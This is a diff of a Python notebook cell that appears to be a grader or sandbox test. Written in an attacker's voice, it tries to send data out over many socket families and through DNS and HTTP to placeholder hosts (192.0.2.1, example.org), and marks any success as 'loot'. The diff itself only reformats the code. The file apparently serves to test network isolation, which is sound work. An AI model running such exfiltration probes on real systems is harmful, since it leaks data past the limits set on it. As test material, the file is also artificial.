@@ -1,5 +1,6 @@
 # ruff: noqa  # written as an attacker writes
 """What is known is sent out: TCP, UDP, Unix, abstract, netlink, packet, VSOCK, name resolution."""
+
 # honest: q1
 # %%
 import otter
@@ -27,7 +28,11 @@ for family in (1, 2, 10, 16, 17, 38, 40):
             channel.sendto(text, ("192.0.2.1", 53))
         except (OSError, TypeError):
             pass
-for ask in (lambda: socket.getaddrinfo("example.org", 80), lambda: urllib.request.urlopen("http://192.0.2.1", timeout=1), lambda: socket.create_connection(("127.0.0.1", 80), timeout=1)):
+for ask in (
+    lambda: socket.getaddrinfo("example.org", 80),
+    lambda: urllib.request.urlopen("http://192.0.2.1", timeout=1),
+    lambda: socket.create_connection(("127.0.0.1", 80), timeout=1),
+):
     try:
         ask()
         loot = "canary- a connection"
